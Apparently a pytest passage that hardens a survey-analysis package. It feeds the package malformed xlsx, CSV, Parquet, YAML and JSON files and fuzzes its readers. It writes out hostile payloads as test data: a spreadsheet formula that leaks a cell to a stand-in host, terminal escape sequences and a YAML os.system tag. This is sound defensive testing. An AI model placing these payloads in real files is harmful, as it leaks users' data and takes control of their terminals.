    path = _shared_strings_xlsx(folder / "many.xlsx", 21, distinct=True)
    return Case(read_survey_file, [str(path)])


_register("xlsx/shared-strings-count", _many_strings)


def test_xlsx_shared_strings_bomb_is_refused(hostile):
    # the same workbook without the unused strings reads: only their number is refused
    control = hostile["xlsx/shared-strings-control"]
    assert control.status == "ok" and control.value == [1, 2], control.describe()
    assert_refused(hostile["xlsx/shared-strings-bomb"], "DataFormatError")
    outcome = assert_refused(hostile["xlsx/shared-strings-count"], "DataFormatError")
    assert "shared" in outcome.message.lower(), outcome.message


def _empty_member_name(folder: Path, valid) -> Case:
    path = folder / "empty-name.xlsx"
    with zipfile.ZipFile(valid["xlsx"]) as zin, zipfile.ZipFile(path, "w") as z:
        for info in zin.infolist():
            z.writestr(info, zin.read(info.filename))
        z.writestr(zipfile.ZipInfo(""), b"x")  # a part without a name
    return Case(read_survey_file, [str(path)])


_register("xlsx/empty-member-name", _empty_member_name)


def test_xlsx_with_a_nameless_part_is_refused(hostile):
    assert_refused(hostile["xlsx/empty-member-name"], "DataFormatError")


def _corrupt_xlsx(folder: Path, valid) -> Case:
    raw = bytearray(valid["xlsx"].read_bytes())
    with zipfile.ZipFile(valid["xlsx"]) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    assert info.compress_type == zipfile.ZIP_DEFLATED
    local = info.header_offset  # the local header: 30 bytes, the name, the extra field
    start = local + 30 + int.from_bytes(raw[local + 26 : local + 28], "little")
    start += int.from_bytes(raw[local + 28 : local + 30], "little")
    middle = start + info.compress_size // 3
    raw[middle : middle + 64] = b"\xff\x00" * 32
    path = folder / "corrupt.xlsx"
    path.write_bytes(bytes(raw))
    return Case(read_survey_file, [str(path)])


_register("xlsx/corrupt-compression", _corrupt_xlsx)


def test_xlsx_with_corrupt_compression_is_refused(hostile):
    assert_refused(hostile["xlsx/corrupt-compression"], "DataFormatError")


# ---------------------------------------------------------------------------------------------
# surveys: CSV
# ---------------------------------------------------------------------------------------------
def _cr_only(folder: Path, valid) -> Case:
    lf = folder / "lf.csv"
    _example_survey().head(30).to_csv(lf, index=False, lineterminator="\n")
    cr = folder / "cr.csv"
    cr.write_bytes(lf.read_bytes().replace(b"\n", b"\r"))
    return Case(read_survey_twice, [str(cr), str(lf)])


_register("csv/cr-only", _cr_only)


def test_csv_with_cr_only_line_endings_is_read_or_refused_by_name(hostile):
    outcome = hostile["csv/cr-only"]
    if outcome.status == "ok":
        assert outcome.value is True, "the CR-only file was read into a different table"
    else:
        assert_refused(outcome, "DataFormatError")


_register(
    "csv/long-header",
    _text_case,
    name="long-header.csv",
    text="respondent_id,cop_id," + "x" * 200_000 + "\nr1,A,1\n",
    load=read_survey_file,
)


def test_csv_with_a_200000_character_header_line_is_refused(hostile):
    outcome = assert_refused(hostile["csv/long-header"], "DataFormatError")
    assert outcome.message_length < 5000, (
        f"the message quotes the whole line ({outcome.message_length} characters)"
    )


def _survey_with(folder: Path, valid, *, column: str, text: str) -> Case:
    path = folder / "survey.csv"
    _example_survey().head(10).to_csv(path, index=False)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows[3][rows[0].index(column)] = text
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return Case(read_survey_file, [str(path)])


HUGE_CELLS = {
    "leader-changes-5000-digits": ("leader_changes", HUGE_DIGITS),
    "leader-changes-30-digits": ("leader_changes", "9" * 30),
    "imp-5000-digits": ("imp_quality", HUGE_DIGITS),
    "hours-1e400": ("hours_per_week", "1" + "0" * 400),
}
for _id, (_column, _text) in HUGE_CELLS.items():
    _register(f"csv/huge/{_id}", _survey_with, column=_column, text=_text)


@pytest.mark.parametrize("case", list(HUGE_CELLS))
def test_huge_numbers_in_a_survey_cell_are_refused(hostile, case):
    outcome = assert_refused(hostile[f"csv/huge/{case}"])
    assert outcome.message_length < 5000, (
        f"the message quotes the whole value ({outcome.message_length} characters)"
    )


# ---------------------------------------------------------------------------------------------
# surveys: Parquet
# ---------------------------------------------------------------------------------------------
def _invalid_utf8_parquet(folder: Path, valid) -> Case:
    import pandas as pd
    import pyarrow as pa
    import pyarrow.parquet as pq

    frame = pd.DataFrame({"respondent_id": ["R1", "R2"], "cop_id": ["AAAAMARKER", "B"]})
    path = folder / "bad-utf8.parquet"
    pq.write_table(
        pa.Table.from_pandas(frame, preserve_index=False),
        path,
        compression="none",
        use_dictionary=False,
        write_statistics=False,
        store_schema=False,
    )
    raw = path.read_bytes()
    assert raw.count(b"AAAAMARKER") == 1  # the value, stored once, as plain bytes
    path.write_bytes(raw.replace(b"AAAAMARKER", b"AA\xff\xfe\xc0\x80KERX"))  # same length
    return Case(read_survey_file, [str(path)])


_register("parquet/invalid-utf8", _invalid_utf8_parquet)


def test_parquet_with_invalid_utf8_in_a_string_column_is_refused(hostile):
    assert_refused(hostile["parquet/invalid-utf8"], "DataFormatError")


# ---------------------------------------------------------------------------------------------
# models: perfect separation
# ---------------------------------------------------------------------------------------------
def _separated(seed: int = 5, n: int = 200):
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(seed)
    y = np.repeat([0, 1, 2], n // 3 + 1)[:n]
    rng.shuffle(y)
    X = pd.DataFrame(
        {
            "sep_binary": (y >= 1).astype(float),  # level 0 vs levels 1-2
            "sep_numeric": y + rng.uniform(0.0, 0.9, n),  # increases with the level
            "noise": rng.normal(size=n),
        }
    )
    groups = np.repeat(np.arange(10), n // 10 + 1)[:n]
    return X, y, groups


@pytest.mark.parametrize("fit", ["ordinal", "ordinal-robust", "binary", "mixed"])
def test_perfect_separation_names_every_predictor_and_claims_no_significance(fit):
    import numpy as np

    from copfactors.errors import PerfectSeparationWarning
    from copfactors.models import MixedOrdinalRegression, OrdinalRegression

    X, y, groups = _separated()
    separated = {"sep_binary", "sep_numeric"}
    if fit == "binary":
        y = (y >= 1).astype(int)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        if fit == "mixed":
            model = MixedOrdinalRegression().fit(X, y, groups=groups)
        else:
            cov = "robust" if fit == "ordinal-robust" else "nonrobust"
            model = OrdinalRegression(cov_type=cov).fit(X, y)
        table = model.summary()
    flagged = [w for w in caught if issubclass(w.category, PerfectSeparationWarning)]
    assert flagged, "no PerfectSeparationWarning"
    for name in separated:
        assert any(name in str(w.message) for w in flagged), f"{name} not named"
    if hasattr(model, "separation_"):
        assert separated <= set(model.separation_), model.separation_
    rows = table[table["term"].isin(separated)]
    assert len(rows) == 2, table["term"].tolist()
    p = rows["p"].to_numpy(dtype=float)
    assert not np.any(p < 0.001), (
        f"a separated predictor is reported as significant: {rows[['term', 'se', 'p']]}"
    )


# ---------------------------------------------------------------------------------------------
# output: formula injection, terminal escapes, output folders
# ---------------------------------------------------------------------------------------------
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# CoP labels a spreadsheet would run as formulas (written into a survey, SIMULATED rows)
_HOSTILE_COPS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=1+1",
    "\x1b]0;owned\x07cop\x1b[2J\x9b31m",  # and one that would drive a terminal
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula_cells(cells: Sequence[str]) -> list[str]:
    """Cells a spreadsheet would read as a formula: numbers and a lone sign (a placeholder for
    an empty cell) are not."""
    return [
        c
        for c in cells
        if c.startswith(_FORMULA_START) and not _is_number(c) and c not in ("-", "+")
    ]


def test_the_formula_cell_check():
    assert _formula_cells(["-0.25", "+3", "-inf", "1e-05", "a-b", "-"]) == []
    assert _formula_cells(["=1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1+1"]) == [
        "=1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
    ]


def _run_cli(args: Sequence[str]):
    from typer.testing import CliRunner

    from copfactors.cli import app

    return CliRunner().invoke(app, [str(a) for a in args])


@pytest.fixture(scope="module")
def hostile_survey(tmp_path_factory) -> Path:
    """The example survey (SIMULATED) with CoP labels that read as spreadsheet formulas."""
    survey = _example_survey()
    labels = sorted(survey["cop_id"].dropna().unique())
    rename = dict(zip(labels, _HOSTILE_COPS, strict=False))
    survey["cop_id"] = survey["cop_id"].map(lambda c: rename.get(c, c))
    path = tmp_path_factory.mktemp("hostile-survey") / "survey.csv"
    survey.to_csv(path, index=False)
    return path


@pytest.fixture(scope="module")
def report_run(hostile_survey, tmp_path_factory):
    """``copfactors report`` of the hostile survey into ``base/x/../y`` (no base/x yet)."""
    base = tmp_path_factory.mktemp("report") / "base"
    base.mkdir()
    result = _run_cli(["report", hostile_survey, "--out", f"{base}/x/../y"])
    return base, result


def _report_ok(report_run) -> Path:
    base, result = report_run
    assert result.exit_code == 0, (result.output[-3000:], result.exception)
    return base / "y"


def test_out_with_dotdot_is_normalised(report_run):
    from copfactors.pipeline import MARKER_FILE, read_report_marker

    base, _ = report_run
    out = _report_ok(report_run)
    assert (out / "report.html").is_file()
    assert not (base / "x").exists(), "the report made base/x on the way to base/x/../y"
    assert sorted(p.name for p in base.iterdir()) == ["y"], "left something beside the report"
    # the marker lists what copfactors wrote; its temporary folder is gone
    written = read_report_marker(out)
    assert written and "report.html" in written and "tables.docx" in written
    left = sorted(p.name for p in out.iterdir() if p.name != MARKER_FILE)
    assert left == sorted(written), "files in the folder that the marker does not list"


def test_report_prints_no_terminal_escapes(report_run):
    # a CoP label holds escape sequences; whatever the report prints (its summary, warnings
    # about the label's characters) shows them as visible escapes
    _, result = report_run
    _report_ok(report_run)
    assert _controls(result.output) == [], result.output[-2000:]


def test_report_csvs_hold_no_formula_cells(report_run):
    out = _report_ok(report_run)
    tables = sorted(out.glob("*.csv"))
    assert len(tables) > 5
    labels_seen = False
    bad: dict[str, list[str]] = {}
    for table in tables:
        with table.open(newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        labels_seen |= any(label in cell for cell in cells for label in _HOSTILE_COPS)
        found = _formula_cells(cells)
        if found:
            bad[table.name] = found[:5]
    assert labels_seen, "the CoP labels reached no CSV table: the test checks nothing"
    assert not bad, f"cells a spreadsheet would run as formulas: {bad}"


def test_report_docx_holds_no_formula_cells(report_run):
    import docx

    out = _report_ok(report_run)
    document = docx.Document(str(out / "tables.docx"))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any(label in cell for cell in cells for label in _HOSTILE_COPS[:5]), (
        "the CoP labels reached no Word table: the test checks nothing"
    )
    found = _formula_cells(cells)
    assert not found, f"Word table cells a spreadsheet would run as formulas: {found[:10]}"


_ALLOWED_CONTROLS = {"\n", "\t"}


def _controls(text: str) -> list[str]:
    return sorted(
        {
            repr(ch)
            for ch in text
            if unicodedata.category(ch) == "Cc" and ch not in _ALLOWED_CONTROLS
        }
    )


_ESCAPED_NAME = "\x1b]0;owned\x07\x1b[2J\x1b[31mHeart\x9b31m health\x07"


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_score_prints_no_terminal_escapes_from_a_plan(tmp_path, fmt):
    path = tmp_path / "plan.json"
    plan = {"name": _ESCAPED_NAME, "description": _ESCAPED_NAME, "composition": {"n_members": 8}}
    path.write_text(json.dumps(plan), encoding="utf-8")
    result = _run_cli(["score", path, "--draws", "20", "--format", fmt])
    assert result.exit_code == 0, (result.output[-2000:], result.exception)
    assert "owned" in result.output, "the plan's name is not printed: the test checks nothing"
    assert _controls(result.output) == [], result.output[:1000]


def test_errors_print_no_terminal_escapes(tmp_path):
    plan = tmp_path / "evil\x1b]0;owned\x07.yaml"
    plan.write_text("steward_type: \x1b[2Jnone\ncomposition: {n_members: 5}\n", encoding="utf-8")
    result = _run_cli(["score", plan])
    assert result.exit_code == 1 and "error:" in result.output, result.output
    assert _controls(result.output) == [], result.output[:1000]

    survey = tmp_path / "survey.csv"
    survey.write_text(
        "respondent_id,cop_id,gender,\x1b[31mcolumn\x07\nr1,A,\x1b]0;owned\x07,1\n",
        encoding="utf-8",
    )
    result = _run_cli(["validate", survey])
    assert result.exit_code == 1, result.output
    assert _controls(result.output) == [], result.output[:1000]


def test_report_refuses_a_folder_it_did_not_write(hostile_survey, tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    mine = b"<html><body>My own report, months of work.</body></html>"
    (out / "report.html").write_bytes(mine)
    result = _run_cli(["report", hostile_survey, "--out", out])
    assert result.exit_code == 1 and "error:" in result.output, result.output[-2000:]
    assert "overwrite" in result.output
    assert (out / "report.html").read_bytes() == mine
    assert sorted(p.name for p in out.iterdir()) == ["report.html"], "wrote into the folder"


def test_report_overwrite_keeps_files_copfactors_did_not_write(hostile_survey, tmp_path):
    out = tmp_path / "shared"
    out.mkdir()
    notes = b"my notes on these results\n"
    (out / "notes.txt").write_bytes(notes)
    (out / "data").mkdir()
    (out / "data" / "raw.csv").write_bytes(b"a,b\n1,2\n")
    result = _run_cli(["report", hostile_survey, "--out", out, "--overwrite"])
    assert result.exit_code == 0, (result.output[-3000:], result.exception)
    assert (out / "report.html").is_file()
    assert (out / "notes.txt").read_bytes() == notes
    assert (out / "data" / "raw.csv").read_bytes() == b"a,b\n1,2\n"
    from copfactors.pipeline import read_report_marker

    written = read_report_marker(out)
    assert written and "report.html" in written
    assert "notes.txt" not in written and "data" not in written


# ---------------------------------------------------------------------------------------------
# fuzzing every reader (run in a capped child: the whole hypothesis loop per reader)
# ---------------------------------------------------------------------------------------------
_TEXT_SNIPPETS = [
    b",",
    b";",
    b"\t",
    b'"',
    b"\r",
    b"\n",
    b"\r\n",
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b"\xc3",
    b"9" * 5000,
    b"9" * 40,
    b"1e400",
    b"-1",
    b"NaN",
    b"=1+1",
    b"x" * 3000,
    b"\xe2\x80\xa8",
]
_YAML_SNIPPETS = [
    b"&a ",
    b"*a",
    b"<<: *a\n",
    b"!!python/object:os.system ",
    b"!!binary ",
    b"[",
    b"{",
    b"]",
    b"}",
    b": ",
    b"- ",
    b"\n  ",
    b"~",
    b"1e400",
    b"1000000000000",
    b"9" * 5000,
    b"-1",
    b".nan",
    b"0x7fffffffffffffff",
    b"\xef\xbb\xbf",
    b"\x00",
    b"name: x\n",
    b'"\\e]0;x\\a"',
    b"%YAML 1.1\n---\n",
]
_JSON_SNIPPETS = [
    b"[",
    b"{",
    b"]",
    b"}",
    b",",
    b":",
    b'"',
    b"null",
    b"true",
    b"NaN",
    b"Infinity",
    b"-1",
    b"0",
    b"1e400",
    b"1000000000",
    b"9" * 5000,
    b"[" * 3000,
    b'"x": 1, "x": 2',
    b"\\u0000",
    b"\\ud800",
    b"\xff",
]
_XML_SNIPPETS = [
    b"<",
    b">",
    b'"',
    b"&amp;",
    b"&x;",
    b'<!DOCTYPE x [<!ENTITY x "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx">]>',
    b'r="XFD1048576"',
    b'ref="A1:XFD1048576"',
    b"1048576",
    b"16384",
    b"99999999999999999999",
    b"-1",
    b"1e400",
    b'<c r="A2" t="s"><v>999999</v></c>',
    b'<c r="A2" t="n"><v>NaN</v></c>',
    b"<row>",
    b"</row>",
    b'<row r="1048576">',
    b"\x00",
    b"\xff",
]
_BINARY_SNIPPETS = [
    b"\x00\x00\x00\x00",
    b"\xff\xff\xff\xff",
    b"\xff\xff\xff\x7f",
    b"\x00\x00\x00\x80",
    b"\x7f\xff\xff\xff\xff\xff\xff\xff",
    b"\x01",
    b"\xff",
    b"PAR1",
    b"$FL2@(#)",
    b"\x00" * 64,
]


def _edits(base: bytes, snippets: Sequence[bytes]):
    """A strategy of edits of ``base``, then perhaps (one time in four) a cut at its end.

    Each edit puts random bytes or a snippet at an offset: over as many bytes as it has
    (``None``: an overwrite, which keeps every other offset of the file, so that its structure
    still parses and the edit reaches deeper), or in place of 0 to 16 bytes. Offsets are
    counted from the start or from the end (hypothesis favours small numbers, and file formats
    keep their structure at both ends: a header, a footer or a zip's central directory).
    """
    from hypothesis import strategies as st

    n = len(base)
    offset = st.one_of(st.integers(0, n), st.integers(0, n).map(lambda x: n - x))
    insert = st.one_of(st.binary(min_size=1, max_size=8), st.sampled_from(list(snippets)))
    edit = st.tuples(offset, st.one_of(st.none(), st.integers(0, 16)), insert)
    cut = st.sampled_from([False, False, False, True]).flatmap(
        lambda cut: offset if cut else st.none()
    )
    return st.tuples(st.lists(edit, min_size=1, max_size=3), cut)


def _apply_edits(
    base: bytes, plan: tuple[list[tuple[int, int | None, bytes]], int | None]
) -> bytes:
    edits, cut = plan
    data = bytearray(base)
    for offset, length, insert in sorted(edits, key=lambda e: -e[0]):
        offset = min(offset, len(data))
        data[offset : offset + (len(insert) if length is None else length)] = insert
    return bytes(data if cut is None else data[:cut])


def _zip_members(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(info, z.read(info.filename)) for info in z.infolist()]


def _json_value():
    from hypothesis import strategies as st

    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.sampled_from([0, -1, 1, 2, 10**9, 2**63, 10**100, "NaN", "Infinity", "-Infinity", ""]),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=6),
    )
    return st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner),
        max_leaves=6,
    )


def _paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    """Every path (dict keys and list positions) into a JSON document, the root excluded."""
    out = []
    if isinstance(node, dict):
        items = node.items()
    elif isinstance(node, list):
        items = enumerate(node)
    else:
        return out
    for key, value in items:
        out.append((*prefix, key))
        out.extend(_paths(value, (*prefix, key)))
    return out


def _structural(doc: Any):
    """A strategy of changes to a JSON document: (path, 'replace' or 'delete', new value)."""
    from hypothesis import strategies as st

    return st.tuples(
        st.sampled_from(_paths(doc)), st.sampled_from(["replace", "delete"]), _json_value()
    )


def _change(doc: Any, change: tuple) -> Any:
    path, op, value = change
    doc = copy.deepcopy(doc)
    parent = _at(doc, path[:-1])
    if op == "delete":
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    return doc


def _dump_yaml(doc: Any) -> bytes:
    import yaml

    return yaml.safe_dump(doc, allow_unicode=True, sort_keys=False).encode("utf-8")


def _fuzz_inputs(reader: str, base: str):
    """(strategy, build: drawn value -> file bytes, suffix, load) of one fuzzed reader."""
    from hypothesis import strategies as st

    path = Path(base)
    raw = path.read_bytes()
    if reader in ("csv", "sav", "parquet", "xlsx-bytes"):
        snippets = _TEXT_SNIPPETS if reader == "csv" else _BINARY_SNIPPETS
        suffix = ".xlsx" if reader == "xlsx-bytes" else path.suffix
        return _edits(raw, snippets), lambda d: _apply_edits(raw, d), suffix, read_survey_file
    if reader == "xlsx-xml":
        members = _zip_members(path)
        names = [info.filename for info, _ in members if info.filename.endswith((".xml", ".rels"))]
        content = dict((info.filename, data) for info, data in members)
        strategy = st.one_of(
            st.sampled_from(names).flatmap(
                lambda n: st.tuples(st.just(n), _edits(content[n], _XML_SNIPPETS))
            ),
            st.tuples(st.sampled_from(names), st.none()),
        )

        def build(drawn: tuple[str, Any]) -> bytes:
            name, plan = drawn
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
                for info, data in members:
                    if info.filename != name:
                        z.writestr(info.filename, data)
                    elif plan is not None:  # None: the member is left out
                        z.writestr(info.filename, _apply_edits(data, plan))
            return buf.getvalue()

        return strategy, build, ".xlsx", read_survey_file
    if reader in ("plan-yaml", "plan-json"):
        snippets = _YAML_SNIPPETS if reader == "plan-yaml" else _JSON_SNIPPETS
        return _edits(raw, snippets), lambda d: _apply_edits(raw, d), path.suffix, load_plan
    if reader == "plan-structure":
        import yaml

        doc = yaml.safe_load(raw.decode("utf-8"))
        strategy = st.tuples(_structural(doc), st.sampled_from([".yaml", ".json"]))

        def build_plan(drawn: tuple) -> bytes:
            changed = _change(doc, drawn[0])
            if drawn[1] == ".yaml":
                return _dump_yaml(changed)
            return json.dumps(changed).encode("utf-8")

        # the suffix is drawn: the loader gets it from the drawn value (see _fuzz)
        return strategy, build_plan, None, load_plan
    if reader in ("model-text", "model-text-checksum"):

        def build_text(drawn: Any) -> bytes:
            data = _apply_edits(raw, drawn)
            if reader == "model-text-checksum":
                try:
                    doc = json.loads(data.decode("utf-8"))
                except (ValueError, RecursionError):
                    return data
                if isinstance(doc, dict):
                    try:
                        doc["checksum"] = {"algorithm": "sha256", "value": model_checksum(doc)}
                        return json.dumps(doc, ensure_ascii=False).encode("utf-8")
                    except (ValueError, TypeError):
                        return data
            return data

        return _edits(raw, _JSON_SNIPPETS), build_text, ".json", load_model_file
    if reader == "model-structure":
        doc = json.loads(raw.decode("utf-8"))
        body = {k: v for k, v in doc.items() if k != "checksum"}

        def build_model(drawn: tuple) -> bytes:
            changed = _change(body, drawn)
            changed["checksum"] = {"algorithm": "sha256", "value": model_checksum(changed)}
            return json.dumps(changed, ensure_ascii=False).encode("utf-8")

        return _structural(body), build_model, ".json", load_model_file
    raise ValueError(reader)


def fuzz(reader: str, base: str, max_examples: int, scratch: str, shrink_seconds: float) -> dict:
    """Run the hypothesis loop of one reader (in the capped child).

    Returns the number of examples run and every distinct failure (an exception other than a
    CopFactorsError), each with the smallest input found: the drawn edits, and the file's bytes
    saved in ``scratch``. Before each example the input is written to ``scratch/last-input``,
    so that the parent can name the input of a child that died.
    """
    from hypothesis import HealthCheck, Phase, given, settings

    from copfactors.errors import CopFactorsError

    folder = Path(scratch)
    folder.mkdir(parents=True, exist_ok=True)
    strategy, build, suffix, load = _fuzz_inputs(reader, base)
    failures: dict[tuple[str, str], dict[str, Any]] = {}
    state = {"examples": 0, "accepted": 0, "refused": 0, "first_failure": None}

    @settings(
        max_examples=max_examples,
        derandomize=True,
        database=None,
        deadline=None,
        phases=(Phase.generate, Phase.shrink),
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def check(drawn: Any) -> None:
        state["examples"] += 1
        data = build(drawn)
        ext = suffix or drawn[1]
        (folder / "last-input").write_bytes(data)
        (folder / "last-input.txt").write_text(f"{ext} {drawn!r:.3000}", encoding="utf-8")
        target = folder / f"input{ext}"
        target.write_bytes(data)
        try:
            load(str(target))
        except CopFactorsError:
            state["refused"] += 1
            return
        except Exception as err:
            started = state["first_failure"]
            if started is not None and time.monotonic() - started > shrink_seconds:
                return  # enough shrinking: end the run
            if started is None:
                state["first_failure"] = time.monotonic()
            message = str(err)
            # one failure per exception type and message (its numbers, such as positions,
            # left out), with the smallest input that raised it
            key = (type(err).__name__, re.sub(r"\d+", "#", message.split("\n")[0])[:80])
            known = failures.get(key)
            if known is None or len(data) <= known["size"]:
                saved = folder / f"failure-{len(failures) if known is None else known['n']}{ext}"
                saved.write_bytes(data)
                failures[key] = {
                    "n": len(failures) if known is None else known["n"],
                    "type": type(err).__name__,
                    "message": message[:500],
                    "drawn": repr(drawn)[:1500],
                    "size": len(data),
                    "saved": str(saved),
                    "head": data[:200].hex() if len(data) <= 200 else None,
                }
            raise
        state["accepted"] += 1

    try:
        check()
    except Exception:
        if not failures:
            raise  # not a failure of the reader: of hypothesis or of this harness
        # else the failures are recorded; hypothesis re-raised one of them
    return {
        "examples": state["examples"],
        "accepted": state["accepted"],
        "refused": state["refused"],
        "failures": list(failures.values()),
    }


def _fuzz_report(reader: str, outcome: Outcome, scratch: Path, base: Path) -> str:
    if outcome.status == "ok":
        lines = [f"{reader}: {len(outcome.value['failures'])} raw exception(s) from {base.name}:"]
        for f in outcome.value["failures"]:
            lines.append(
                f"  - {f['type']}: {f['message']}\n    smallest input: {f['drawn']}\n"
                f"    ({f['size']} bytes, saved as {f['saved']})"
            )
        return "\n".join(lines)
    last = scratch / "last-input.txt"
    drawn = last.read_text(encoding="utf-8")[:1500] if last.exists() else "(none)"
    return f"{outcome.describe()}\n  input being read: {drawn} (bytes in {scratch / 'last-input'})"


_FUZZ_BASES = {
    "csv": "csv",
    "xlsx-bytes": "xlsx",
    "xlsx-xml": "xlsx",
    "sav": "sav",
    "parquet": "parquet",
    "plan-yaml": "plan_yaml",
    "plan-json": "plan_json",
    "plan-structure": "plan_yaml",
    "model-text": "model",
    "model-text-checksum": "model",
    "model-structure": "model",
    "reference-model-structure": "reference_model",
}
#: Examples per reader in the normal suite (a few hundred in all).
_QUICK = {
    "csv": 50,
    "xlsx-bytes": 20,
    "xlsx-xml": 40,
    "sav": 40,
    "parquet": 40,
    "plan-yaml": 40,
    "plan-json": 25,
    "plan-structure": 40,
    "model-text": 15,
    "model-text-checksum": 25,
    "model-structure": 40,
    "reference-model-structure": 25,
}
#: Examples per reader in the long run (``-m fuzz_long``).
LONG_EXAMPLES = 10_000


def _fuzz_cases(valid, scratch: Path, examples: Callable[[str], int], shrink: float):
    cases = {}
    for reader, base in _FUZZ_BASES.items():
        kind = reader.replace("reference-", "")
        cases[reader] = Case(
            fuzz, (kind, str(valid[base]), examples(reader), str(scratch / reader), shrink)
        )
    return cases


@pytest.fixture(scope="module")
def quick_fuzz(valid, tmp_path_factory):
    scratch = tmp_path_factory.mktemp("fuzz")
    outcomes = run_capped_batch(_fuzz_cases(valid, scratch, _QUICK.__getitem__, 15.0))
    return scratch, outcomes


@pytest.mark.parametrize("reader", list(_FUZZ_BASES))
def test_fuzzed_reader_raises_only_copfactors_errors(valid, quick_fuzz, reader):
    scratch, outcomes = quick_fuzz
    outcome = outcomes[reader]
    report = _fuzz_report(reader, outcome, scratch / reader, valid[_FUZZ_BASES[reader]])
    assert outcome.status == "ok", report
    assert outcome.value["failures"] == [], report
    assert outcome.value["examples"] >= _QUICK[reader], outcome.value


@pytest.mark.fuzz_long
@pytest.mark.parametrize("reader", list(_FUZZ_BASES))
def test_fuzzed_reader_long_run(valid, tmp_path, reader):
    scratch = tmp_path / "fuzz"
    case = _fuzz_cases(valid, scratch, lambda _: LONG_EXAMPLES, 120.0)[reader]
    outcome = run_capped_batch({reader: case}, timeout=3600)[reader]
    report = _fuzz_report(reader, outcome, scratch / reader, valid[_FUZZ_BASES[reader]])
    assert outcome.status == "ok", report
    assert outcome.value["failures"] == [], report
    assert outcome.value["examples"] >= LONG_EXAMPLES, outcome.value


def test_the_fuzzer_finds_a_raw_exception(tmp_path):
    """The harness itself: a reader that raises a raw error is caught, with its input."""
    base = tmp_path / "plan.json"
    base.write_text('{"name": "x", "composition": {"n_members": 5}}', encoding="utf-8")
    code = (
        "import json\n"
        "from pathlib import Path\n"
        f"module = __import__('importlib.util').util\n"
        f"spec = module.spec_from_file_location('h', {str(HERE)!r})\n"
        "h = module.module_from_spec(spec)\n"
        "__import__('sys').modules['h'] = h\n"
        "spec.loader.exec_module(h)\n"
        "def fragile(path):\n"
        "    json.loads(Path(path).read_text(encoding='utf-8'))\n"
        "h.load_plan = fragile\n"
        "result = h.fuzz('plan-json', args[0], 30, args[1], 10.0)\n"
    )
    outcome = run_capped(code, str(base), str(tmp_path / "scratch"))
    assert outcome.status == "ok", outcome.describe()
    failures = outcome.value["failures"]
    assert failures and {f["type"] for f in failures} <= {
        "JSONDecodeError",
        "UnicodeDecodeError",
        "RecursionError",
        "ValueError",
    }, failures
    assert all(Path(f["saved"]).is_file() for f in failures)


# ---------------------------------------------------------------------------------------------
# the documentation of the limits (docs/security.md) states the values in the code
# ---------------------------------------------------------------------------------------------
def _count(value: float) -> str:
    return f"{int(value):,}" if float(value) == int(value) else f"{value:,}"


def test_the_security_page_states_the_limits_in_the_code():
    import dataclasses

    from copfactors._utils.safeyaml import MAX_DEPTH, MAX_INT, MAX_INT_CHARS, SHORT
    from copfactors.io import ReadLimits
    from copfactors.mapping import MAX_MAPPING_BYTES
    from copfactors.persist import MAX_MODEL_BYTES
    from copfactors.plans import MAX_PLAN_BYTES, PLAN_LIMITS
    from copfactors.scoring import MAX_DRAWS, SEED_LIMIT

    page = HERE.parents[1] / "docs" / "security.md"
    text = " ".join(page.read_text(encoding="utf-8").split())
    expected = [f"| `{f.name}` | {_count(f.default)} |" for f in dataclasses.fields(ReadLimits)]
    expected += [
        f"at most {MAX_PLAN_BYTES:,} bytes (`copfactors.plans.MAX_PLAN_BYTES`)",
        f"at most {MAX_MAPPING_BYTES:,} bytes (`copfactors.mapping.MAX_MAPPING_BYTES`)",
        f"at most {MAX_MODEL_BYTES:,} bytes, `copfactors.persist.MAX_MODEL_BYTES`",
        f"at most {MAX_DEPTH} levels",
        f"integer literals of at most {MAX_INT_CHARS} characters",
        f"more than {SHORT} characters of a value",
        f"at most {MAX_DRAWS:,} parameter draws",
        f"from 0 to {SEED_LIMIT - 1:,}",
        f"| `n_members` | {PLAN_LIMITS['positive_count'][0]} to "
        f"{_count(PLAN_LIMITS['positive_count'][1])} |",
        f"at most {_count(PLAN_LIMITS['members'][1])} entries",
        f"| `hours_per_week` | {PLAN_LIMITS['hours'][0]} to {PLAN_LIMITS['hours'][1]} ",
        f"| `leader_changes` | {PLAN_LIMITS['count'][0]} to {_count(PLAN_LIMITS['count'][1])} |",
        f"| {PLAN_LIMITS['likert'][0]} to {PLAN_LIMITS['likert'][1]} |",
        f"| {PLAN_LIMITS['share'][0]} to {PLAN_LIMITS['share'][1]} |",
        f"| at most {_count(PLAN_LIMITS['text'][1])} characters |",
        f"| at most {_count(PLAN_LIMITS['description'][1])} characters |",
    ]
    assert MAX_INT == 2**53 and "at most 2\\*\\*53 in magnitude" in text
    missing = [phrase for phrase in expected if phrase not in text]
    assert not missing, f"docs/security.md does not state: {missing}"
